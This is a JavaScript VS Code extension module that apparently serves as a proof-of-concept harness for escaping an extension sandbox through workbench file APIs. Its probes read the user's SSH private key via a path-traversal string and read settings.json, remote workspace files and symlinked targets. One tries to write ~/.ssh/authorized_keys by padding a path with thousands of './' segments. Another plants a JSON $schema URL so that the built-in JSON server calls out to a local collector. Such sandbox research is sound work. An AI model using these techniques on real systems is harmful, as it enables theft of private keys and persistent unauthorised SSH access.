// The operating system's sandbox alone does not see this: the workbench opens the file, by RPC.
"use strict";
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "documents", {
    // The JSON server, which is built in and has the user's network, loads the schema that a document names.
    schema: async ({ collector, mark, workspace }, vscode) => {
      const file = `${workspace}/.proof/named-schema.json`;
      require("node:fs").writeFileSync(file, `{ "$schema": "http://127.0.0.1:${collector}/${mark}" }`);
      await vscode.window.showTextDocument(vscode.Uri.file(file), { preview: false });
      await new Promise((resolve) => setTimeout(resolve, 4000));
      return "shown";
    },
    async open({ key }, vscode) {
      return (await vscode.workspace.openTextDocument(key)).getText();
    },
    async dots({ home, workspace }, vscode) {
      return (await vscode.workspace.openTextDocument(`${workspace}/../../.ssh/../.ssh/id_rsa`)).getText() + home;
    },
    async remote({ key }, vscode) {
      const authority = vscode.workspace.workspaceFolders[0].uri.authority || "localhost";
      const uri = vscode.Uri.from({ scheme: "vscode-remote", authority, path: key });
      return (await vscode.workspace.openTextDocument(uri)).getText();
    },
    async settings({ data }, vscode) {
      return (await vscode.workspace.openTextDocument(`${data}/data/User/settings.json`)).getText();
    },
    async show({ key }, vscode) {
      const editor = await vscode.window.showTextDocument(vscode.Uri.file(key), { preview: true });
      return editor.document.getText();
    },
    // A document is saved as what its name says, which who saves it folds to a short one.
    async longName({ home }, vscode) {
      const named = vscode.Uri.from({ scheme: "untitled", path: `${home}/.ssh/${"./".repeat(12500)}authorized_keys` });
      const document = await vscode.workspace.openTextDocument(named);
      const edit = new vscode.WorkspaceEdit();
      edit.insert(named, new vscode.Position(0, 0), "x");
      if (!(await vscode.workspace.applyEdit(edit)) || !(await document.save())) throw new Error("not saved");
    },
    async symlink({ key, workspace }, vscode) {
      const link = `${workspace}/.proof/innocent.txt`;
      require("node:fs").symlinkSync(key, link);
      return (await vscode.workspace.openTextDocument(link)).getText();
    },
  });
